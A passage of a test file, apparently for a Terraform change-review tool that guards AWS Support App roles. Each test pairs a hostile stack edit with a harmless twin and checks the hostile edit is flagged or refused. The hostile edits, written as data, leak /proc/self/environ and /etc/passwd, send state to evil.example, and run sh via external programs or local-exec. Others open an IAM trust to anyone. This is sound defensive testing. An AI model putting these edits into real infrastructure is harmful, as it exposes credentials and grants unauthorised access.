import { cut } from "../../../cli/review/cut";
import { type EnvironmentChange, environmentChanges } from "../../../cli/review/environment-change";
import { markdown } from "../../../cli/review/report";
import { reviewOf } from "../../../cli/review/review";
import { withoutDigest } from "../../../cli/terraform/stack";
import type { Terraform } from "../../../cli/terraform/synthesized-folder";
import { needsApproval } from "../../../cli/terraform/verdict";
import { NOW } from "../../support/now";
import { synthesize } from "../../support/synthesize";
import { isThorough, sample, thoroughTest } from "../../support/thorough";

/*
 * What a change could hide where nobody looks for access: each section, argument and place of the Terraform, beside a twin
 * that looks alike and harms nobody.
 */

// biome-ignore lint/suspicious/noExplicitAny: the cases change what Terraform has at any place
type Draft = any;

const CHANNEL = "channel_T01_C01";
const ACCOUNT = "111122223333";

/** Without the digest, which no change by hand would keep: what these tests are about is the rest. */
function stackOf(backend: string, levels: string): Terraform {
  const text = `environments: { paid: { account: "${ACCOUNT}", region: us-east-1, backend: ${backend}, ${levels} } }`;
  return withoutDigest(JSON.parse(synthesize(text).paid ?? ""));
}

const S3 = "{ type: s3, bucket: states, region: us-east-1 }";
const LEVELS =
  'full: { permissions-boundary: "arn:aws:iam::111122223333:policy/b", source-account-condition: true, tags: { Owner: a }, channels: [{ name: oncall, workspace: T01, channel: C01 }] }, read-only: {}, slack-workspaces: [T01], account-alias: Payments';
const FULL = stackOf(S3, LEVELS);
const CLOUD = stackOf("{ type: cloud, organization: acme }", LEVELS);

function change(base: Terraform | undefined, head: Terraform | undefined): EnvironmentChange {
  const only = (terraform: Terraform | undefined) => new Map(terraform ? [["paid", terraform]] : []);
  const [found] = environmentChanges(only(base), only(head), NOW);
  if (!found) throw new Error("Received no environment, expected one.");
  return found;
}

function edited(edit: (draft: Draft) => void, base = FULL): EnvironmentChange {
  const head = structuredClone(base);
  edit(head);
  return change(base, head);
}

/** Whether a change goes through without anybody's approval. */
function passes({ verdict, violations }: EnvironmentChange): boolean {
  return !needsApproval(verdict) && violations.length === 0;
}

type Case = readonly [name: string, attack: (draft: Draft) => void, twin: (draft: Draft) => void];

const ROLE = (draft: Draft) => draft.resource.aws_iam_role.full;

describe("an attack needs an approval or is refused, and its twin passes", () => {
  const CASES: readonly Case[] = [
    [
      "the state of another bucket",
      (draft) => Object.assign(draft.terraform.backend.s3, { bucket: "theirs" }),
      (draft) => Object.assign(ROLE(draft), { description: "another bucket" }),
    ],
    [
      "the state under another key",
      (draft) => Object.assign(draft.terraform.backend.s3, { key: "theirs/paid.tfstate" }),
      (draft) => Object.assign(draft.output.full_role_arn, { description: "theirs/paid.tfstate" }),
    ],
    [
      "the state in another region",
      (draft) => Object.assign(draft.terraform.backend.s3, { region: "eu-west-1" }),
      (draft) => Object.assign(draft.provider.aws[0], { default_tags: [{ tags: { region: "eu-west-1" } }] }),
    ],
    [
      "channels that stay behind in the old region",
      (draft) => Object.assign(draft.provider.aws[0], { region: "eu-west-1" }),
      (draft) => Object.assign(draft.provider.aws[0], { region: "us-east-1" }),
    ],
    [
      "a second role that is linked to Service Quotas",
      (draft) => {
        draft.resource.aws_iam_service_linked_role = {
          more: { aws_service_name: "servicequotas.amazonaws.com", lifecycle: { prevent_destroy: true } },
        };
      },
      (draft) => {
        draft.removed = undefined;
        draft.resource.aws_iam_service_linked_role = {
          service_quotas: {
            aws_service_name: "servicequotas.amazonaws.com",
            lifecycle: { prevent_destroy: true, ignore_changes: ["description"] },
          },
        };
      },
    ],
    [
      "a state that nobody locks",
      (draft) => delete draft.terraform.backend.s3.use_lockfile,
      (draft) => delete draft.terraform["//"],
    ],
    [
      "a backend that is reached by another endpoint",
      (draft) => Object.assign(draft.terraform.backend.s3, { endpoints: { s3: "https://evil.example" } }),
      (draft) => Object.assign(draft["//"], { endpoints: { s3: "https://evil.example" } }),
    ],
    [
      "state that is handed to a web server",
      (draft) => Object.assign(draft.terraform, { backend: { http: { address: "https://evil.example" } } }),
      (draft) => Object.assign(draft.terraform, { "//": { http: "https://evil.example" } }),
    ],
    [
      "encryption that runs a program under OpenTofu",
      (draft) =>
        Object.assign(draft.terraform, { encryption: { key_provider: { external: { a: { command: ["sh"] } } } } }),
      (draft) => Object.assign(draft["//"], { encryption: { command: ["sh"] } }),
    ],
    [
      "a provider of another name",
      (draft) => Object.assign(draft.terraform.required_providers, { evil: { source: "evil/evil", version: "1.0.0" } }),
      (draft) =>
        Object.assign(draft.terraform.required_providers.aws, { source: "registry.terraform.io/hashicorp/aws" }),
    ],
    [
      "the provider from elsewhere",
      (draft) => Object.assign(draft.terraform.required_providers.aws, { source: "evil.example/hashicorp/aws" }),
      (draft) => Object.assign(draft.terraform.required_providers.aws, { source: "hashicorp/aws" }),
    ],
    [
      "another version of the provider",
      (draft) => Object.assign(draft.terraform.required_providers.aws, { version: "= 5.0.0" }),
      (draft) => Object.assign(draft.terraform, { required_version: ">= 1.8" }),
    ],
    [
      "an import of another role's attachment",
      (draft) => {
        draft.import = [
          {
            to: "aws_iam_role_policy_attachment.full",
            id: `Theirs/arn:aws:iam::${ACCOUNT}:policy/AWSSupportAppFullRolePolicy`,
          },
        ];
      },
      (draft) => {
        draft.import = [
          {
            to: "aws_iam_role_policy_attachment.full",
            id: `AWSSupportAppFullRole/arn:aws:iam::${ACCOUNT}:policy/AWSSupportAppFullRolePolicy`,
          },
        ];
      },
    ],
    [
      "an import of another role's exclusive list",
      (draft) => {
        draft.import = [{ to: "aws_iam_role_policies_exclusive.full", id: "Theirs" }];
      },
      (draft) => {
        draft.import = [{ to: "aws_iam_role_policies_exclusive.full", id: "AWSSupportAppFullRole" }];
      },
    ],
    [
      "an import of another account's policy",
      (draft) => {
        draft.import = [
          { to: "aws_iam_policy.full", id: "arn:aws:iam::999999999999:policy/AWSSupportAppFullRolePolicy" },
        ];
      },
      (draft) => {
        draft.import = [
          { to: "aws_iam_policy.full", id: `arn:aws:iam::${ACCOUNT}:policy/AWSSupportAppFullRolePolicy` },
        ];
      },
    ],
    [
      "an import once for each of many",
      (draft) => {
        draft.import = [{ to: "aws_iam_role.full", id: "AWSSupportAppFullRole", for_each: "${toset([])}" }];
      },
      (draft) => {
        draft.import = [{ to: "${aws_iam_role.full}", id: "AWSSupportAppFullRole" }];
      },
    ],
    [
      "an import by an identity, which isn't known here",
      (draft) => {
        draft.import = [{ to: "aws_iam_role.full", identity: { name: "Theirs" } }];
      },
      (draft) => {
        draft.import = [{ to: "aws_iam_role.full", id: "AWSSupportAppFullRole" }];
      },
    ],
    [
      "an import of something that isn't in the stack",
      (draft) => {
        draft.import = [{ to: "aws_iam_role.theirs", id: "theirs" }];
      },
      (draft) => {
        draft.import = [];
      },
    ],
    [
      "a move of something that the stack never had",
      (draft) => {
        draft.moved = [{ from: "aws_iam_role.theirs", to: "aws_iam_role.full" }];
      },
      (draft) => {
        draft.moved = [];
      },
    ],
    [
      "a move onto something else",
      (draft) => {
        draft.moved = [{ from: "aws_iam_role.read_only", to: "aws_iam_role.full" }];
      },
      (draft) => Object.assign(draft["//"], { moved: [{ from: "aws_iam_role.read_only", to: "aws_iam_role.full" }] }),
    ],
    [
      "a role that Terraform stops managing",
      (draft) => {
        draft.removed = [{ from: "aws_iam_role.full", lifecycle: { destroy: false } }];
      },
      (draft) => {
        draft.removed = [{ from: "aws_iam_service_linked_role.service_quotas", lifecycle: { destroy: false } }];
      },
    ],
    [
      "the Service Quotas role that Terraform destroys",
      (draft) => {
        draft.removed = [{ from: "aws_iam_service_linked_role.service_quotas", lifecycle: { destroy: true } }];
      },
      (draft) => {
        draft.removed = [
          { "//": "a", from: "aws_iam_service_linked_role.service_quotas", lifecycle: { destroy: false } },
        ];
      },
    ],
    [
      "an output that discloses the runner's secrets",
      (draft) => {
        draft.output.more = { value: '${filebase64("/proc/self/environ")}' };
      },
      (draft) => {
        draft.output.more = { value: "${aws_iam_role.full.arn}" };
      },
    ],
    [
      "an output with a precondition",
      (draft) => {
        draft.output.full_role_arn.precondition = [{ condition: '${file("x") == ""}', error_message: "a" }];
      },
      (draft) => {
        draft.output.full_role_arn.sensitive = true;
      },
    ],
    [
      "an output of what the stack doesn't have",
      (draft) => {
        draft.output.more = { value: "${aws_iam_role.theirs.arn}" };
      },
      (draft) => {
        draft.output.more = { value: ["${aws_iam_policy.full.arn}", "a"] };
      },
    ],
    [
      "a local that reads a file",
      (draft) => {
        draft.locals = { a: '${file("/etc/passwd")}' };
      },
      (draft) => {
        draft.locals = {};
      },
    ],
    [
      "a variable that the environment of the run sets",
      (draft) => {
        draft.variable = { a: { default: "b" } };
      },
      (draft) => {
        draft.variable = {};
      },
    ],
    [
      "a provider that reads credentials elsewhere",
      (draft) => Object.assign(draft.provider.aws[0], { shared_credentials_files: ["x"] }),
      (draft) => Object.assign(draft.provider.aws[0], { default_tags: [{ tags: { a: "b" } }] }),
    ],
    [
      "a provider that assumes a role by a token in a file",
      (draft) =>
        Object.assign(draft.provider.aws[0], { assume_role_with_web_identity: [{ web_identity_token_file: "x" }] }),
      (draft) => Object.assign(draft.provider.aws[0], { "//": { assume_role_with_web_identity: [] } }),
    ],
    [
      "another role that deploys, which may do more",
      (draft) =>
        Object.assign(draft.provider.aws[0], { assume_role: [{ role_arn: `arn:aws:iam::${ACCOUNT}:role/d` }] }),
      (draft) => Object.assign(ROLE(draft), { description: `arn:aws:iam::${ACCOUNT}:role/d` }),
    ],
    [
      "a letter that Terraform turns into another",
      (draft) => {
        draft.data.aws_iam_policy_document.full.statement.push({
          effect: "Deny",
          actions: ["support:CreateCase"],
          resources: ["arn:aws:s3:::b/\u212aeys"],
        });
      },
      (draft) => {
        draft.data.aws_iam_policy_document.full.statement.push({
          effect: "Deny",
          actions: ["support:CreateCase"],
          resources: ["arn:aws:s3:::b/Keys"],
        });
      },
    ],
    [
      "an IAM variable that an older policy version takes literally",
      (draft) => {
        draft.resource.aws_iam_policy.full.policy = `{"Statement":[{"Effect":"Deny","Action":"support:*","Resource":"arn:aws:s3:::\\u0024{aws:username}"}]}`;
      },
      (draft) => {
        draft.resource.aws_iam_policy.full.policy = `{"Statement":[{"Effect":"Deny","Action":"support:*","Resource":"arn:aws:s3:::a"}]}`;
      },
    ],
    [
      "notifications of which one keeps its setting in the account",
      (draft) => {
        const one = draft.resource.aws_cloudcontrolapi_resource[CHANNEL];
        one.desired_state = one.desired_state.replace(', "NotifyOnResolveCase" = false', "");
      },
      (draft) => {
        const one = draft.resource.aws_cloudcontrolapi_resource[CHANNEL];
        one.desired_state = one.desired_state.replace('"NotifyOnResolveCase" = false', '"NotifyOnResolveCase" = true');
      },
    ],
    [
      "a document that reads a file beside its statements",
      (draft) => {
        draft.data.aws_iam_policy_document.full.policy_id = '${file("x")}';
      },
      (draft) => {
        draft.data.aws_iam_policy_document.full.policy_id = "x";
      },
    ],
    [
      "a document that nothing refers to, and reads a file",
      (draft) => {
        draft.data.aws_iam_policy_document.more = { statement: [{ sid: '${file("x")}', actions: ["a:b"] }] };
      },
      (draft) => {
        draft.data.aws_iam_policy_document.more = { statement: [{ sid: "x", actions: ["a:b"] }] };
      },
    ],
    [
      "data that runs a program",
      (draft) => {
        draft.data.external = { more: { program: ["sh", "-c", "true"] } };
      },
      (draft) => {
        draft.data.aws_caller_identity = { more: {} };
      },
    ],
    [
      "a resource that runs a program once it is created",
      (draft) => {
        ROLE(draft).provisioner = [{ "local-exec": { command: "true" } }];
      },
      (draft) => {
        ROLE(draft)["//"] = { provisioner: [{ "local-exec": { command: "true" } }] };
      },
    ],
    [
      "a log group that runs a program once it is created",
      (draft) => {
        draft.resource.aws_cloudwatch_log_group = { a: { name: "a", provisioner: [{ "local-exec": {} }] } };
      },
      (draft) => {
        draft.resource.aws_cloudwatch_log_group = { a: { name: "a", retention_in_days: 7 } };
      },
    ],
    [
      "a role that another provider manages",
      (draft) => {
        ROLE(draft).provider = "aws.theirs";
      },
      (draft) => {
        ROLE(draft).tags = { provider: "aws.theirs" };
      },
    ],
    [
      "a lifecycle that evaluates something",
      (draft) => {
        ROLE(draft).lifecycle.postcondition = [{ condition: '${file("x") == ""}', error_message: "a" }];
      },
      (draft) => {
        ROLE(draft).lifecycle.prevent_destroy = true;
      },
    ],
    [
      "a module",
      (draft) => {
        draft.module = { more: { source: "./more" } };
      },
      (draft) => {
        draft.module = {};
      },
    ],
    [
      "a policy named like a property of every object",
      (draft) => {
        draft.resource.aws_iam_role_policy_attachment.full.policy_arn = "constructor";
      },
      (draft) => {
        ROLE(draft).description = "constructor";
      },
    ],
    [
      "a boundary named like a property of every object",
      (draft) => {
        ROLE(draft).permissions_boundary = "__proto__";
      },
      (draft) => {
        ROLE(draft).tags = { a: "__proto__" };
      },
    ],
    [
      "a type named like a property of every object",
      (draft) => {
        draft.resource.toString = { a: {} };
      },
      (draft) => {
        draft["//"].toString = { a: {} };
      },
    ],
    [
      "anybody in the trust",
      (draft) => {
        draft.data.aws_iam_policy_document.full_trust.statement.push({
          actions: ["sts:AssumeRole"],
          principals: [{ type: "AWS", identifiers: ["*"] }],
        });
      },
      (draft) => {
        draft.data.aws_iam_policy_document.full_trust.statement.push({
          effect: "Deny",
          actions: ["sts:AssumeRole"],
          principals: [{ type: "AWS", identifiers: ["999999999999"] }],
        });
      },
    ],
    [
      "a condition that holds more often",
      (draft) => {
        draft.data.aws_iam_policy_document.full_trust.statement[0].condition[0].test = "StringEqualsIfExists";
      },
      (draft) => {
        draft.data.aws_iam_policy_document.full_trust.statement[0].condition[0].test = "StringLike";
      },
    ],
    [
      "a workspace's registration that creates a role",
      (draft) => {
        draft.resource.aws_cloudcontrolapi_resource.workspace_T01.type_name = "AWS::IAM::Role";
      },
      (draft) => {
        draft.resource.aws_cloudcontrolapi_resource.workspace_T01.desired_state = '{"TeamId":"T01"}';
      },
    ],
    [
      "a channel of another role by its ARN",
      (draft) => {
        const one = draft.resource.aws_cloudcontrolapi_resource[CHANNEL];
        one.desired_state = one.desired_state.replace("aws_iam_role.full.arn", `"arn:aws:iam::${ACCOUNT}:role/Boss"`);
      },
      (draft) => {
        const one = draft.resource.aws_cloudcontrolapi_resource[CHANNEL];
        one.desired_state = one.desired_state.replace(
          "aws_iam_role.full.arn",
          `"arn:aws:iam::${ACCOUNT}:role/AWSSupportAppFullRole"`,
        );
      },
    ],
  ];

  test.each(CASES)("%s", (_, attack, twin) => {
    expect(passes(edited(attack))).toBe(false);
    expect(edited(twin)).toMatchObject({ unreadable: [], violations: [] });
    expect(passes(edited(twin))).toBe(true);
  });

  test("the state of another organization or host", () => {
    for (const settings of [
      { organization: "theirs" },
      { hostname: "evil.example" },
      { workspaces: { name: "theirs" } },
    ]) {
      const found = edited((draft) => Object.assign(draft.terraform.cloud, settings), CLOUD);
      expect(found).toMatchObject({ verdict: "unknown", plannable: "approved" });
    }
    expect(edited((draft) => Object.assign(draft.terraform.cloud, { token: "x" }), CLOUD).verdict).toBe("unknown");
    expect(edited((draft) => Object.assign(ROLE(draft), { description: "theirs" }), CLOUD)).toMatchObject({
      verdict: "cosmetic",
      plannable: "always",
    });
  });

  test("the report says why a backend needs an approval", () => {
    const found = edited((draft) => Object.assign(draft.terraform.backend.s3, { bucket: "theirs" }));
    expect(markdown(reviewOf([found]))).toContain(
      "- The backend changes: s3 with bucket `states`, encrypt `true`, key `support-app/paid.tfstate`, region `us-east-1`, use_lockfile `true` → s3 with bucket `theirs`, encrypt `true`, key `support-app/paid.tfstate`, region `us-east-1`, use_lockfile `true`. The state decides what Terraform destroys, and which providers it installs and runs: nothing is planned here before this change is approved.",
    );
  });
});

describe("a value from outside the Terraform is refused, whatever was approved: one approval would cover what it becomes later", () => {
  test.each<[string, (draft: Draft) => void]>([
    ["a file", (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${file("policy.json")}' })],
    [
      "a file by a template",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${templatefile("a", {})}' }),
    ],
    [
      "a file, with a comment in between",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${file /* a */ ("a")}' }),
    ],
    [
      "a file within a function that reads none",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${jsonencode(jsondecode(file("a")))}' }),
    ],
    [
      "a function of a provider",
      (draft) => Object.assign(draft.resource.aws_iam_policy.full, { policy: '${provider::evil::policy("a")}' }),
    ],
    ["the time", (draft) => Object.assign(ROLE(draft), { description: "${timestamp()}" })],
    ["a directive", (draft) => Object.assign(ROLE(draft), { description: '%{ if fileexists("a") }a%{ endif }' })],
    ["a key", (draft) => Object.assign(ROLE(draft), { tags: { '${file("a")}': "b" } })],
    ["a module", (draft) => Object.assign(draft, { module: { a: { source: "git::https://evil.example/a" } } })],
    ["a program", (draft) => Object.assign(draft, { data: { external: { a: { program: ["sh"] } } } })],
    ["a resource of another provider", (draft) => Object.assign(draft.resource, { null_resource: { a: {} } })],
    [
      "what is found in AWS",
      (draft) => {
        draft.data.aws_s3_object = { p: { bucket: "b", key: "p.json" } };
        draft.resource.aws_iam_policy.full.policy = "${data.aws_s3_object.p.body}";
      },
    ],
    [
      "a variable, which the run sets",
      (draft) => {
        draft.variable = { p: { default: "{}" } };
        draft.resource.aws_iam_policy.full.policy = "${var.p}";
      },
    ],
    ["the workspace", (draft) => Object.assign(ROLE(draft), { description: "${terraform.workspace}" })],
    ["a provisioner", (draft) => Object.assign(ROLE(draft), { provisioner: [{ "local-exec": { command: "a" } }] })],
  ])("%s", (_, edit) => {
    const found = edited(edit);
    expect(found.violations.map(({ kind }) => kind)).toContain("reads-elsewhere");
    expect(found.plannable).toBe("never");
    // Nor is it passed over once it is there: the same code may read something else today.
    const head = structuredClone(FULL);
    edit(head);
    expect(passes(change(head, head))).toBe(false);
  });

  test("a function that reads nothing can be approved", () => {
    const found = edited((draft) => {
      draft.resource.aws_sns_topic = { a: { name: '${join("-", ["a", "b"])}' } };
    });
    expect(found).toMatchObject({ verdict: "unknown", violations: [], plannable: "approved" });
  });
});

describe("a read-only access that is renamed in the same change still may not write", () => {
  const rename = (draft: Draft, to: string, name?: string) => {
    for (const all of Object.values<Draft>(draft.resource)) {
      if (!all.read_only) continue;
      all[to] = JSON.parse(JSON.stringify(all.read_only).replaceAll(".read_only.", `.${to}.`));
      delete all.read_only;
    }
    const documents = draft.data.aws_iam_policy_document;
    documents[to] = documents.read_only;
    documents[`${to}_trust`] = documents.read_only_trust;
    draft.resource.aws_iam_role[to].assume_role_policy = `\${data.aws_iam_policy_document.${to}_trust.json}`;
    delete draft.output.read_only_role_arn;
    if (name !== undefined) draft.resource.aws_iam_role[to].name = name;
  };
  const write = (draft: Draft, name: string) =>
    draft.data.aws_iam_policy_document[name].statement[0].actions.push("support:CreateCase");

  test("writing is forbidden at its address, so another address needs an approval", () => {
    const found = edited((draft) => rename(draft, "watch"));
    expect(found).toMatchObject({ verdict: "unknown", violations: [] });
    expect(markdown(reviewOf([found]))).toContain(
      "- The read-only role `AWSSupportAppReadOnlyRole` gets a new address in Terraform. From then on, nothing forbids that it writes.",
    );
  });

  test.each<[string, (draft: Draft) => void]>([
    ["its address", (draft) => rename(draft, "watch")],
    ["its address and its name", (draft) => rename(draft, "watch", "Watch")],
    ["its name", (draft) => Object.assign(draft.resource.aws_iam_role.read_only, { name: "Watch" })],
    [
      "its address, moved in the state",
      (draft) => {
        rename(draft, "watch");
        draft.moved = Object.keys(draft.resource)
          .filter((type) => draft.resource[type].watch)
          .map((type) => ({ from: `${type}.read_only`, to: `${type}.watch` }));
      },
    ],
  ])("%s", (_, edit) => {
    const reading = edited(edit);
    expect(reading.violations).toEqual([]);
    const writing = edited((draft) => {
      edit(draft);
      write(draft, draft.data.aws_iam_policy_document.watch ? "watch" : "read_only");
    });
    expect(writing.violations).toMatchObject([
      { kind: "read-only-writes", actions: { patterns: ["support:createcase"] } },
    ]);
  });

  test("nor may it get something unreadable with another address", () => {
    const found = edited((draft) => {
      rename(draft, "watch");
      delete draft.data.aws_iam_policy_document.read_only;
      draft.data.aws_iam_policy_document.watch = { override_policy_documents: ["{}"] };
    });
    expect(found.violations).toContainEqual(
      expect.objectContaining({ unreadable: expect.objectContaining({ address: "aws_iam_role.watch" }) }),
    );
  });

  const NOT_READ = {
    source_policy_documents: [
      '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"support:*","Resource":"*"}]}',
    ],
  };
  test.each<[string, (base: Draft) => void, (head: Draft) => void]>([
    [
      "by a document of another name",
      () => {},
      (head) => {
        head.data.aws_iam_policy_document.viewing = NOT_READ;
        head.resource.aws_iam_policy.read_only.policy = "${data.aws_iam_policy_document.viewing.json}";
      },
    ],
    [
      "by a document that full access had before",
      (base) => {
        base.data.aws_iam_policy_document.full = NOT_READ;
      },
      (head) => {
        head.resource.aws_iam_policy.read_only.policy = "${data.aws_iam_policy_document.full.json}";
      },
    ],
    [
      "by a policy that full access had before",
      (base) => {
        base.data.aws_iam_policy_document.full = NOT_READ;
      },
      (head) => {
        head.resource.aws_iam_role_policy_attachment.read_only.policy_arn = "${aws_iam_policy.full.arn}";
        head.resource.aws_iam_role_policy_attachments_exclusive.read_only.policy_arns = ["${aws_iam_policy.full.arn}"];
      },
    ],
  ])("nor may it get something unreadable: %s", (_, prepare, attack) => {
    const base = structuredClone(FULL) as Draft;
    prepare(base);
    const head = structuredClone(base);
    attack(head);
    const found = change(base, head);
    expect(found.violations).toContainEqual(
      expect.objectContaining({ kind: "read-only-unreadable", role: "AWSSupportAppReadOnlyRole" }),
    );
    // Nobody is told to lose what that may give back.
    expect(markdown(reviewOf([found]))).not.toContain("| loses |");
    const twin = structuredClone(base);
    twin.resource.aws_iam_role.read_only.description = "a";
    expect(change(base, twin).violations).toEqual([]);
  });

  test("full access under the read-only name is refused; under its own name, it needs an approval", () => {
    const base = stackOf(S3, "read-only: {}");
    const full = (name: string) => change(base, stackOf(S3, `full: { role-name: ${name} }`));
    expect(full("AWSSupportAppReadOnlyRole").violations).not.toEqual([]);
    expect(full("AWSSupportAppFullRole")).toMatchObject({ violations: [], verdict: "broadened" });
  });
});

describe("stacks with other resources get an answer if those can't affect a channel's role", () => {
  const own = (draft: Draft) => {
    draft.resource.aws_cloudwatch_log_group = { a: { name: "a", retention_in_days: 7, tags: { a: "b" } } };
    draft.resource.aws_sns_topic = { a: { name: "a" } };
    draft.data.aws_caller_identity = { me: {} };
    draft.data.aws_region = { here: {} };
    draft.output.account = { value: "${data.aws_caller_identity.me.account_id}" };
  };

  test("a log group, a topic and the caller's identity", () => {
    expect(edited(own)).toMatchObject({ verdict: "cosmetic", unreadable: [] });
    const base = structuredClone(FULL) as Draft;
    own(base);
    const head = structuredClone(base);
    head.data.aws_iam_policy_document.full.statement[0].actions.pop();
    expect(change(base, head)).toMatchObject({ verdict: "narrowed", unreadable: [] });
    expect(
      edited((draft) => {
        own(draft);
        draft.resource.aws_cloudwatch_log_group.a.name = "${var.name}";
      }).verdict,
    ).toBe("unknown");
    expect(edited((draft) => Object.assign(draft.resource, { aws_sqs_queue: { a: { name: "a" } } })).verdict).toBe(
      "unknown",
    );
  });

  test("README's example of the library, which may be deployed to any account", () => {
    const library = structuredClone(FULL) as Draft;
    delete library.provider.aws[0].allowed_account_ids;
    library.terraform = {
      backend: { local: { path: "terraform.support.tfstate" } },
      required_providers: { aws: { source: "aws", version: "6.25.0" } },
    };
    expect(change(undefined, library)).toMatchObject({ verdict: "broadened", unreadable: [] });
    const head = structuredClone(library);
    head.data.aws_iam_policy_document.full.statement[0].actions.pop();
    expect(change(library, head)).toMatchObject({ verdict: "narrowed", unreadable: [] });
    head.provider.aws[0].region = "eu-west-1"; // other credentials may well be another account
    expect(change(library, head)).toMatchObject({ verdict: "unknown" });
    const limited = structuredClone(library);
    limited.provider.aws[0].allowed_account_ids = [ACCOUNT];
    expect(change(library, limited).verdict).toBe("unknown");
  });
});

test("whoever may assume the role is named, and marked if they are in another account", () => {
  const trusting = (identifier: string) =>
    edited((draft) =>
      draft.data.aws_iam_policy_document.full_trust.statement[0].principals.push({
        type: "AWS",
        identifiers: [identifier],
      }),
    );
  const report = (identifier: string) => markdown(reviewOf([trusting(identifier)]));
  expect(report("arn:aws:iam::999999999999:root")).toContain(
    "| gains | anybody in the account `999999999999` (**another account**), with the role `AWSSupportAppFullRole` | `sts:AssumeRole` |",
  );
  expect(report("arn:aws:iam::999999999999:role/Theirs")).toContain(
    "| gains | `arn:aws:iam::999999999999:role/Theirs` (**another account**), with",
  );
  expect(report(ACCOUNT)).toContain(`| gains | anybody in the account \`${ACCOUNT}\`, with`);
  expect(report("*")).toContain("| gains | anybody, with the role");
  expect(trusting("arn:aws-cn:iam::999999999999:root").unreadable).toMatchObject([{ reason: "unusual-principal" }]);
  // A role of the same account is known by a name that somebody else may get.
  expect(trusting(`arn:aws:iam::${ACCOUNT}:role/Boss`).unreadable).toMatchObject([{ reason: "unusual-principal" }]);
});

test("a digest is the same however the same access is written, and different for anything else", () => {
  const approvedBy = (edit: (draft: Draft) => void) => reviewOf([edited(edit)]).digest;
  const more = (draft: Draft) => {
    const [first] = draft.data.aws_iam_policy_document.full.statement;
    first.actions.push("support:DescribeTrustedAdvisorChecks", "support:DescribeServices");
    return draft.data.aws_iam_policy_document.full.statement;
  };
  const digest = approvedBy(more);
  expect(digest).toMatch(/^[a-z2-7]{40}$/);
  expect(`approved-${digest}`.length).toBeLessThanOrEqual(50);
  const same: readonly ((draft: Draft) => void)[] = [
    (draft) => more(draft)[0].actions.reverse(),
    (draft) => more(draft).reverse(),
    (draft) => {
      const statements = more(draft);
      const [first] = statements;
      statements.push({ ...first, actions: first.actions.splice(0, 5) });
    },
    (draft) => {
      const [first] = more(draft);
      first.actions = first.actions.map((action: string) => action.toUpperCase());
      first.sid = "a";
    },
    (draft) => {
      more(draft);
      ROLE(draft).tags = { a: "b" };
    },
  ];
  for (const edit of same) expect(approvedBy(edit)).toBe(digest);
  const other: readonly ((draft: Draft) => void)[] = [
    (draft) => more(draft)[0].actions.pop(),
    (draft) => more(draft)[0].resources.push("arn:aws:s3:::a"),
    (draft) => {
      more(draft);
      ROLE(draft).name = "Other";
    },
    (draft) => {
      more(draft);
      draft.terraform.backend.s3.bucket = "theirs";
    },
    (draft) => {
      more(draft);
      draft.import = [{ to: "aws_iam_role.full", id: "AWSSupportAppFullRole" }];
    },
  ];
  const others = other.map(approvedBy);
  expect(new Set([digest, ...others]).size).toBe(other.length + 1);
});

test("a name that belonged to a role of another environment in the account", () => {
  const named = (levels: string) => stackOf(S3, levels);
  const change = (reading: string, full: string) =>
    environmentChanges(
      new Map([
        ["a", named("read-only: {}")],
        ["b", named("full: { role-name: OtherFull }")],
      ]),
      new Map([
        ["a", named(`read-only: { role-name: ${reading} }`)],
        ["b", named(`full: { role-name: ${full} }`)],
      ]),
      NOW,
    );
  const taken = change("Reading", "AWSSupportAppReadOnlyRole");
  expect(taken.map(({ verdict }) => verdict)).toEqual(["settings", "unknown"]);
  expect(markdown(reviewOf(taken))).toContain(
    "- The name `AWSSupportAppReadOnlyRole` belonged to a role of `a`, in the same account. A channel that was configured by hand with it gets the access of this role.",
  );
  expect(change("Reading", "Writing").map(({ verdict }) => verdict)).toEqual(["settings", "settings"]);
});

describe("the report says correctly who gains what", () => {
  test("a wider pattern beside a narrower one", () => {
    const found = edited((draft) =>
      draft.data.aws_iam_policy_document.full.statement[0].actions.push("support:?", "support:*"),
    );
    expect(markdown(reviewOf([found]))).toContain("| gains | people in `#oncall` | `support:*` | everything |");
  });

  test("a role with another address that may do one thing less", () => {
    const found = edited((draft) => {
      for (const all of Object.values<Draft>(draft.resource)) {
        if (!all.full) continue;
        all.watch = JSON.parse(JSON.stringify(all.full).replaceAll(".full.", ".watch."));
        delete all.full;
      }
      const documents = draft.data.aws_iam_policy_document;
      documents.watch = documents.full;
      documents.watch.statement[0].actions.pop();
      draft.output.full_role_arn.value = "${aws_iam_role.watch.arn}";
      const channel = draft.resource.aws_cloudcontrolapi_resource[CHANNEL];
      channel.desired_state = channel.desired_state.replace("aws_iam_role.full", "aws_iam_role.watch");
      channel.depends_on = [];
    });
    const report = markdown(reviewOf([found]));
    expect(report.match(/\| (gains|loses) \| people in `#oncall` .*/g)).toEqual([
      "| loses | people in `#oncall` | `support:ResolveCase` | everything |  |  |",
    ]);
    expect(report).toContain("- `#oncall` (`C01`): its role `AWSSupportAppFullRole` has a new address in Terraform.");
  });

  test("a condition more or less in the trust: before and after", () => {
    const narrowed = edited((draft) => {
      const [statement] = draft.data.aws_iam_policy_document.full_trust.statement;
      statement.condition.push({ test: "StringEquals", variable: "aws:RequestedRegion", values: ["us-east-1"] });
    });
    expect(markdown(reviewOf([narrowed]))).toContain(
      `| \`aws:SourceAccount\` \`StringEquals\` \`${ACCOUNT}\` → \`aws:requestedregion\` \`StringEquals\` \`us-east-1\` and \`aws:SourceAccount\` \`StringEquals\` \`${ACCOUNT}\` |`,
    );
    const broadened = edited((draft) => {
      delete draft.data.aws_iam_policy_document.full_trust.statement[0].condition;
    });
    expect(markdown(reviewOf([broadened]))).toContain(
      `| \`aws:SourceAccount\` \`StringEquals\` \`${ACCOUNT}\` → always |`,
    );
  });

  test("a longer session duration and new names of policies", () => {
    const found = edited((draft) => {
      ROLE(draft).max_session_duration = "43200"; // Terraform takes it for a number
      draft.resource.aws_iam_policy.full.name = "Other";
    });
    const report = markdown(reviewOf([found]));
    expect(report).toContain(
      "The maximum session duration of the role `AWSSupportAppFullRole` changes: IAM's default → 43200 seconds.",
    );
    expect(report).toContain(
      "The policies of the role `AWSSupportAppFullRole` have new names: `/AWSSupportAppFullRolePolicy` → `/Other`.",
    );
  });

  test("a forbidden part is reported once", () => {
    const found = edited((draft) => Object.assign(ROLE(draft), { description: '${file("a")}' }));
    const report = markdown(reviewOf([found]));
